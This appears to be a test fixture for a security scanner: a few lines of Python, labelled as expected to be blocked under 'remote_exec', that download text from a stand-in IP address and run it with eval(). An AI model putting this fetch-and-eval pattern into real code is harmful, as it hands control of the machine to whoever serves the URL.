# expect: BLOCKED category: remote_exec
# Evaluates whatever a URL returns.
from urllib.request import urlopen

result = eval(urlopen("http://203.0.113.4/expr").read().decode())
print(result)
